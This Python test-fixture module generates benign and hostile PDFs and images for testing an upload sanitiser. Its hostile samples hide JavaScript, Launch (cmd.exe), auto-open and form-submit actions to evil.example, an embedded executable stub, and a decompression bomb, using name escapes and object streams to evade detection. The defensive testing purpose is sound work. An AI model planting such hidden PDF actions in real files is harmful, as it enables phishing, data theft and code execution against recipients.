"""PDFs and images for the upload tests, made in memory with pikepdf and Pillow (no binary fixtures).

Ordinary ones look like what units upload (a scanned page, a Word export with links, a phone photo);
hostile ones each hide one kind of active content the way an attacker would: behind name escapes, inside
compressed object streams, unreferenced, or in a file that cannot be read whole.
"""
from __future__ import annotations

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

A4 = (595, 842)


# ---- images ----------------------------------------------------------------------------

def _page_image(size=(620, 877)) -> Image.Image:
    """A grey-white page with lines of "text" and a red seal, like a phone scan of a stamped form."""
    image = Image.new("RGB", size, (246, 245, 240))
    draw = ImageDraw.Draw(image)
    for y in range(90, size[1] - 120, 28):
        draw.rectangle((60, y, size[0] - 60 - (y * 7) % 140, y + 8), fill=(60, 60, 60))
    draw.ellipse((size[0] - 230, size[1] - 260, size[0] - 70, size[1] - 100), outline=(200, 30, 30), width=8)
    return image


def photo_jpeg(size=(620, 877)) -> bytes:
    out = io.BytesIO()
    _page_image(size).save(out, "JPEG", quality=80)
    return out.getvalue()


def document_png(size=(620, 877)) -> bytes:
    out = io.BytesIO()
    _page_image(size).convert("L").save(out, "PNG", optimize=True)
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_claiming(width: int, height: int) -> bytes:
    """A 1-bit PNG of the given size, all black: a few KB that decode to width x height pixels."""
    deflate = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)
    body = b"".join(deflate.compress(row) for _ in range(height)) + deflate.flush()
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + _chunk(b"IDAT", body) + _chunk(b"IEND", b""))


def png_truncated() -> bytes:
    data = document_png()
    return data[: len(data) // 2]


def jpeg_truncated() -> bytes:
    data = photo_jpeg()
    return data[: len(data) // 2]


def png_bad_checksum() -> bytes:
    data = bytearray(document_png())
    data[60] ^= 0xFF       # inside the first IDAT: its CRC no longer matches
    return bytes(data)


# ---- ordinary PDFs -----------------------------------------------------------------------

def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    # The same bytes on every run (tests compare downloads with uploads); qpdf cannot for an encrypted file.
    pdf.save(out, deterministic_id="encryption" not in options, **options)
    return out.getvalue()


def _scanned_page(pdf: pikepdf.Pdf) -> pikepdf.Page:
    jpeg = photo_jpeg()
    image = pikepdf.Stream(pdf, jpeg, Type=Name.XObject, Subtype=Name.Image, Width=620, Height=877,
                           ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode)
    content = pdf.make_stream(f"q {A4[0]} 0 0 {A4[1]} 0 0 cm /Im0 Do Q".encode())
    page = pikepdf.Page(pdf.make_indirect(Dictionary(
        Type=Name.Page, MediaBox=Array([0, 0, *A4]), Contents=content,
        Resources=Dictionary(XObject=Dictionary(Im0=image)))))
    return page


def scanned_pdf(pages: int = 1) -> bytes:
    """What a scanner or 打印为PDF makes: pages that are one picture each, compressed object streams."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.pages.append(_scanned_page(pdf))
    pdf.docinfo[Name.Producer] = "Scanner"
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def office_pdf() -> bytes:
    """A Word/WPS export: opens at its first page, a web link, an outline, page labels and a tagged
    structure (whose /S names are not actions). Nothing in it runs by itself."""
    pdf = pikepdf.new()
    pdf.pages.append(_scanned_page(pdf))
    pdf.add_blank_page(page_size=A4)
    first = pdf.pages[0].obj
    link = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([60, 700, 300, 720]),
                                        A=Dictionary(S=Name.URI, URI=String("https://www.shanxi.gov.cn/"))))
    to_second = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([60, 650, 300, 670]),
                           A=Dictionary(Type=Name.Action, S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
    first.Annots = Array([link, pdf.make_indirect(to_second)])
    outline = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("第一章 见习管理"), Parent=outline,
                                        Dest=Array([first, Name.Fit])))
    outline.First = outline.Last = item
    pdf.Root.Outlines = outline
    pdf.Root.OpenAction = Array([first, Name.Fit])
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
    root_element = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Document))
    root_element.K = Array([pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, P=root_element))])
    pdf.Root.StructTreeRoot = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=root_element))
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# ---- hostile PDFs ---------------------------------------------------------------------------

def _with(build, *, packed: bool = True, **options) -> bytes:
    """A one-page scan, changed by build(pdf); packed: every dictionary inside compressed object streams,
    so none of it can be found by searching the bytes."""
    pdf = pikepdf.new()
    pdf.pages.append(_scanned_page(pdf))
    build(pdf)
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    return _save(pdf, object_stream_mode=mode, **options)


def _js_action(pdf):
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.launchURL('x')")))


def packed_javascript_pdf() -> bytes:
    """Document-level JavaScript (the /Names /JavaScript tree) with every dictionary in an object stream."""
    def build(pdf):
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _js_action(pdf)])))
    return _with(build)


def compressed_javascript_pdf() -> bytes:
    """A link whose action's script is itself a Flate-compressed stream, the action packed away too."""
    def build(pdf):
        script = pikepdf.Stream(pdf, zlib.compress(b"this.exportDataObject({cName: 'a', nLaunch: 2});"),
                                Filter=Name.FlateDecode)
        action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=script))
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, *A4]), A=action))])
    return _with(build)


def open_action_pdf() -> bytes:
    """Opening the file sends the viewer to a web address by itself."""
    def build(pdf):
        pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://evil.example/collect"))
    return _with(build)


def link_pdf(uri: str) -> bytes:
    """A full-page link to uri: https is an ordinary hyperlink, javascript: or file: is not."""
    def build(pdf):
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, *A4]), A=Dictionary(S=Name.URI, URI=String(uri))))])
    return _with(build)


def launch_pdf() -> bytes:
    """A full-page link that starts a program."""
    def build(pdf):
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, *A4]),
            A=Dictionary(S=Name.Launch, F=String("cmd.exe"), P=String("/c calc"))))])
    return _with(build)


def additional_actions_pdf() -> bytes:
    """An action the page runs by itself when it opens (/AA), even one that only moves."""
    def build(pdf):
        pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    return _with(build)


def submit_form_pdf() -> bytes:
    """A form field whose button sends the form's contents to a server."""
    def build(pdf):
        widget = pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("ok"), Rect=Array([60, 60, 160, 90]),
            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/form"))))
        pdf.pages[0].obj.Annots = Array([widget])
        pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return _with(build)


def xfa_pdf() -> bytes:
    """An XFA form, its template a compressed stream."""
    def build(pdf):
        template = pikepdf.Stream(pdf, zlib.compress(b"<xdp:xdp><template/></xdp:xdp>"), Filter=Name.FlateDecode)
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=template)
    return _with(build)


def embedded_file_pdf() -> bytes:
    """A program carried inside the PDF as an attachment."""
    def build(pdf):
        pdf.attachments["说明.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60)
    return _with(build)


def rich_media_pdf() -> bytes:
    """A RichMedia (Flash) annotation: plays content inside the viewer."""
    def build(pdf):
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 100, 100])))])
    return _with(build)


def encrypted_pdf(user_password: str = "") -> bytes:
    """Encrypted (with an empty user password it still opens, but its content is not what was checked)."""
    return _with(lambda pdf: None, encryption=pikepdf.Encryption(owner="owner-secret", user=user_password))


def many_pages_pdf(pages: int) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=A4)
    return _save(pdf)


# ---- PDFs written by hand, byte by byte ---------------------------------------------------------

def assemble(objects: list[bytes], *, packed: list[bytes] = (), pad: int = 0) -> bytes:
    """A PDF from object bodies numbered from 1 (object 1 is the catalogue), with a cross-reference stream.
    packed: more objects (numbered on) inside one Flate object stream, padded with `pad` spaces."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    first_packed = len(objects) + 1
    entries = {n: (1, off, 0) for n, off in offsets.items()}
    number = first_packed
    if packed:
        stream_number = first_packed + len(packed)
        index, bodies, at = [], b"", 0
        for i, body in enumerate(packed):
            index.append(b"%d %d" % (first_packed + i, at))
            bodies += body + b"\n"
            at = len(bodies)
            entries[first_packed + i] = (2, stream_number, i)
        head = b" ".join(index) + b"\n"
        data = zlib.compress(head + bodies + b" " * pad, 9)
        offsets[stream_number] = len(out)
        entries[stream_number] = (1, len(out), 0)
        out += (b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n"
                % (stream_number, len(packed), len(head), len(data))) + data + b"\nendstream\nendobj\n"
        number = stream_number + 1
    xref_number = number
    entries[xref_number] = (1, len(out), 0)
    rows = b"\x00\x00\x00\x00\x00\xff\xff" + b"".join(
        struct.pack(">BIH", *entries[n]) for n in range(1, xref_number + 1))
    out += (b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>stream\n"
            % (xref_number, xref_number + 1, len(rows))) + rows + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % entries[xref_number][1]
    return bytes(out)


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>%s>>"


def hand_written_pdf() -> bytes:
    """The smallest ordinary file: a catalogue, its page tree, one empty page."""
    return assemble([CATALOG, PAGES, PAGE % b""])


def javascript_pdf() -> bytes:
    """The plain case: opening the file runs a script."""
    return assemble([b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", PAGES,
                     PAGE % b""])


def escaped_javascript_pdf() -> bytes:
    """/S /JavaScript and /JS spelled with name escapes (#61 is "a", #53 is "S"): the same names to a viewer."""
    return assemble([CATALOG, PAGES, PAGE % b"/Annots[4 0 R]",
                     b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/J#61v#61Script/J#53(app.alert(1))>>>>"])


def escaped_packed_launch_pdf() -> bytes:
    """An escaped /Launch action inside an object stream: neither searching nor reading plain objects finds it."""
    return assemble([CATALOG, PAGES, PAGE % b"/Annots[4 0 R]"],
                    packed=[b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/L#61unch/F(cmd.exe)>>>>"])


def unreferenced_javascript_pdf() -> bytes:
    """A script action nothing refers to: a viewer that rebuilds the file, or follows a later update, may
    still find it."""
    return assemble([CATALOG, PAGES, PAGE % b""], packed=[b"<</Type/Action/S/JavaScript/JS(app.alert(1))>>"])


def object_stream_bomb_pdf() -> bytes:
    """An object stream of a few KB that inflates to 64 MB of spaces."""
    return assemble([CATALOG, PAGES], packed=[PAGE % b""], pad=64 << 20)


def garbage_pdf() -> bytes:
    return b"%PDF-1.7\n" + bytes((i * 37 + 11) % 256 for i in range(4000))


def truncated_pdf() -> bytes:
    data = scanned_pdf()
    return data[: len(data) // 2]
